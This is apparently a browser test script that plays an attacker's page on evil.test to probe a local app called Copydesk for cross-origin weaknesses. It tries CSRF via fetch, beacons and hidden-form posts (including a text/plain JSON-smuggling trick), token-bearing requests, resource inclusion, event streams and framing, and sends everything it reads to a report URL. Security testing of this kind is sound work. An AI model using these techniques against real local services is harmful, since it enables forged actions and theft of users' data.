// An attacker's page on another site (http://evil.test:<its port>/), run in the user's
// Chromium while Copydesk serves on 127.0.0.1: everything such a page can do without the
// user's help. It reports every attempt and every response it could read.
(async () => {
  const { port, tokens, inputs, targets, reportUrl } = window.ATTACK;
  const bases = [`http://127.0.0.1:${port}`, `http://localhost:${port}`, `http://evil.test:${port}`];
  const attempts = [];
  const reads = [];
  const note = (label, outcome) => attempts.push({ label, outcome });
  const settle = (element, events) => new Promise((resolve) => events.forEach((name) => element.addEventListener(name, () => resolve(name), { once: true })));

  /** A frame's document is readable only if it is same-origin with this page. */
  function readFrame(label, frame) {
    try {
      const document = frame.contentDocument;
      if (!document) return 'unreadable (cross-origin)';
      const text = document.documentElement.outerHTML;
      // An empty about:blank-like document is this page's own; anything else was read.
      if (document.location.href !== 'about:blank' || document.body?.innerText) reads.push({ label, status: 0, body: text });
      return `readable: ${document.location.href}`;
    } catch (error) {
      return `unreadable (${error.name})`;
    }
  }

  async function tryFetch(label, url, init) {
    try {
      const response = await fetch(url, init);
      if (response.type === 'opaque') return note(label, 'opaque');
      reads.push({ label, status: response.status, body: await response.text() });
      note(label, `read ${response.status}`);
    } catch (error) {
      note(label, `blocked (${error.name})`);
    }
  }

  // fetch: simple and non-simple, with and without credentials, with guessed and leaked tokens.
  for (const base of bases) {
    for (const method of targets) {
      const url = `${base}/api/${method}`;
      const body = JSON.stringify(inputs[method] ?? {});
      for (const credentials of ['omit', 'include']) {
        const simple = { method: 'POST', credentials, headers: { 'Content-Type': 'text/plain' }, body };
        await tryFetch(`fetch no-cors text/plain, credentials ${credentials}: ${url}`, url, { ...simple, mode: 'no-cors' });
        await tryFetch(`fetch cors text/plain, credentials ${credentials}: ${url}`, url, simple);
        await tryFetch(`fetch cors application/json, credentials ${credentials}: ${url}`, url, { ...simple, headers: { 'Content-Type': 'application/json' } });
        for (const token of tokens) {
          const headers = { 'Content-Type': 'application/json', Authorization: `Bearer ${token.value}` };
          await tryFetch(`fetch cors with the ${token.label} token, credentials ${credentials}: ${url}`, url, { ...simple, headers });
          await tryFetch(`fetch no-cors with the ${token.label} token, credentials ${credentials}: ${url}`, url, { ...simple, headers, mode: 'no-cors' });
        }
      }
      note(`sendBeacon: ${url}`, navigator.sendBeacon(url, body) ? 'queued' : 'refused');
    }
    await tryFetch(`fetch the page: ${base}/`, `${base}/`, {});
  }

  // Forms posted into hidden frames: urlencoded, multipart, and text/plain carrying JSON.
  for (const base of bases) {
    for (const method of ['createStory', 'updateSettings', 'events']) {
      for (const enctype of ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain']) {
        const frame = document.createElement('iframe');
        frame.name = `frame-${attempts.length}`;
        document.body.append(frame);
        const form = document.createElement('form');
        form.method = 'POST';
        form.action = `${base}/api/${method}`;
        form.enctype = enctype;
        form.target = frame.name;
        const field = document.createElement('input');
        field.type = 'hidden';
        // text/plain sends name=value: this makes the body {"headline":"Forged by a form","pad":"="}.
        field.name = '{"headline":"Forged by a form","pad":"';
        field.value = '"}';
        form.append(field);
        document.body.append(form);
        const loaded = settle(frame, ['load']);
        form.submit();
        await loaded;
        note(`form ${enctype} → ${form.action}`, readFrame(`form ${enctype} → ${form.action}`, frame));
      }
    }
  }

  // Our URLs as script, image and style sheet.
  for (const base of bases) {
    for (const path of ['/', '/api/listStories', '/api/events', '/api/getStory']) {
      const script = document.createElement('script');
      script.src = `${base}${path}`;
      const ran = settle(script, ['load', 'error']);
      document.head.append(script);
      note(`script ${script.src}`, await ran);
      const image = new Image();
      const shown = settle(image, ['load', 'error']);
      image.src = `${base}${path}`;
      note(`image ${image.src}`, await shown);
      const sheet = document.createElement('link');
      sheet.rel = 'stylesheet';
      sheet.href = `${base}${path}`;
      const styled = settle(sheet, ['load', 'error']);
      document.head.append(sheet);
      note(`stylesheet ${sheet.href}`, await styled);
    }
  }

  // The event stream, as EventSource and as WebSocket.
  for (const base of bases) {
    for (const withCredentials of [false, true]) {
      const source = new EventSource(`${base}/api/events`, { withCredentials });
      const messages = [];
      source.addEventListener('message', (event) => messages.push(event.data));
      const outcome = await settle(source, ['open', 'error']);
      source.close();
      note(`EventSource ${base}/api/events (credentials ${withCredentials})`, `${outcome}, ${messages.length} messages`);
      if (outcome === 'open' || messages.length > 0) reads.push({ label: `EventSource ${base}`, status: 200, body: messages.join('\n') });
    }
    const socket = new WebSocket(`${base.replace('http', 'ws')}/api/events`);
    const opened = await settle(socket, ['open', 'error', 'close']);
    socket.close();
    note(`WebSocket ${base}/api/events`, opened);
    if (opened === 'open') reads.push({ label: `WebSocket ${base}`, status: 101, body: '' });
  }

  // Our page in a frame, with the token in its address: can this page see into it?
  const frame = document.createElement('iframe');
  const framed = settle(frame, ['load']);
  frame.src = `http://127.0.0.1:${port}/?token=${tokens.find((token) => token.label === 'leaked').value}`;
  document.body.append(frame);
  await framed;
  note(`frame ${frame.src}`, readFrame('framed app', frame));

  await fetch(reportUrl, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ attempts, reads }) });
})();
